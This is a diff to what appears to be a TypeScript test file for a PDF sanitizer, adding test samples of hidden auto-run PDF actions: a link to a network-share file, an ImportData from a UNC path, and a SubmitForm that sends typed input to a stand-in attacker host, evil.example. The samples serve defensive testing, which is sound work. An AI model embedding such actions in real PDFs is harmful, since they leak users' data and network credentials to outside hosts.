@@ -95,6 +95,22 @@ const samples = [
     objects: ["<< /Fields [] /XFA [(template) (x)] >>"],
     readerSees: (bytes: Uint8Array) => /Form:\s+XFA/.test(poppler("pdfinfo", [], bytes)),
   },
+  ...[
+    [
+      "a link to a file on a network share",
+      "otherFile",
+      "/GoToR /F (\\\\\\\\server\\\\a.pdf) /D [0 /Fit]",
+    ],
+    ["a form that sends what is typed", "submitForm", "/SubmitForm /F (https://evil.example/x)"],
+    ["a data import", "importData", "/ImportData /F (\\\\\\\\server\\\\data.fdf)"],
+  ].map(([what, part, action]) => ({
+    what: what!,
+    part: pdfActiveParts[part as keyof typeof pdfActiveParts],
+    catalog: "/OpenAction 3 0 R",
+    objects: [`<< /S ${action} >>`],
+    // As for the launch action: a page count means the hidden catalog was resolved.
+    readerSees: (bytes: Uint8Array) => /Pages:\s+1\n/.test(poppler("pdfinfo", [], bytes)),
+  })),
 ];
 
 describe("prepareDocument: objects hidden where only the cross-reference points", () => {
